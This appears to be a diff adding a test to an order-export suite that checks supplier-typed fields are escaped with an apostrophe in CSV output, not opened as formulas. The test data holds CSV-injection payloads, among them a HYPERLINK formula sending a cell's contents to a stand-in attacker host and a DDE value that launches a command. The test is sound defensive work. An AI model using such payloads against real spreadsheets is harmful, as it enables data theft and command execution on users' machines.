@@ -96,6 +96,34 @@ describe(`order export (${testDriver})`, () => {
     expect(rows).toEqual(made.map((o) => o.refId));
   });
 
+  it("writes what a supplier typed as text, never as a spreadsheet formula", async () => {
+    // product names, serial numbers and failure reasons come from the supplier: a cell that
+    // starts with = + - @ (or a tab) would open as a formula
+    const base = (await exportedOrders(h.deps.db, period).next()).value as ExportedOrder;
+    const hostile: ExportedOrder = {
+      ...base,
+      product_name: '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
+      sn: "+1+cmd|' /C calc'!A0",
+      failure_reason: "@SUM(1+1)",
+      destination: "-2+3",
+      margin: -100,
+    };
+    async function* one() {
+      yield hostile;
+    }
+    const [row] = parse(await text(exportFile(one(), "csv")), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    expect(row!.product_name).toBe(`'${hostile.product_name}`);
+    expect(row!.sn).toBe(`'${hostile.sn}`);
+    expect(row!.failure_reason).toBe(`'${hostile.failure_reason}`);
+    expect(row!.destination).toBe(`'${hostile.destination}`);
+    // numbers stay numbers: a negative margin is not a formula
+    expect(row!.margin).toBe("-100");
+    expect(row!.ref_id).toBe(base.ref_id);
+  });
+
   it("reads months and days in WIB", () => {
     expect(wibMonth("2026-11")).toEqual({
       from: new Date("2026-10-31T17:00:00Z"),
